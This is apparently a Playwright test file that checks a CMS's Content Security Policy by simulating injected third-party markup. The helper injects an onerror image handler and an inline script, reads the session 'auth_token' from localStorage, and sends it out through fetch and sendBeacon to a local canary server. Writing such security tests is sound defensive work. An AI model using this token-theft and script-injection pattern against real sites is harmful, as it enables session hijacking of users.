import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { signIn } from './cms.ts';

/** Does in the CMS what markup of somebody else would do, and tells what came of it. */
const attack = (page: Page, elsewhere: string) =>
  page.evaluate(async (address) => {
    const blocked: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      blocked.push(effectiveDirective),
    );
    const place = document.body.appendChild(document.createElement('div'));
    place.innerHTML = '<img src="/cms/nothing.png" onerror="window.ran = true">';
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    place.append(script);
    const token = localStorage.getItem('auth_token');
    await fetch(`${address}/?${token}`, { mode: 'no-cors' }).catch(() => {});
    navigator.sendBeacon(`${address}/?${token}`);
    await new Promise((resolve) => setTimeout(resolve, 500));
    place.remove();
    return { ran: 'ran' in window, blocked: [...new Set(blocked)].toSorted(), token };
  }, elsewhere);

for (const isGuarded of [true, false])
  test(`a script in the CMS ${isGuarded ? 'neither runs nor tells the session to anybody' : 'would run without the policy'}`, async ({
    browser,
    baseURL,
  }) => {
    const asked: string[] = [];
    const canary = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end();
    }).listen(0, '127.0.0.1');
    await once(canary, 'listening');
    const elsewhere = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;

    const context = await browser.newContext({ baseURL: baseURL!, bypassCSP: !isGuarded });
    const page = await context.newPage();
    await signIn(page);
    const { ran, blocked, token } = await attack(page, elsewhere);
    expect(token).toMatch(/^eyJ/);
    expect(ran).toBe(!isGuarded);
    expect(blocked).toEqual(isGuarded ? ['connect-src', 'script-src-attr', 'script-src-elem'] : []);
    expect(asked.length > 0).toBe(!isGuarded);
    await context.close();
    canary.close();
  });
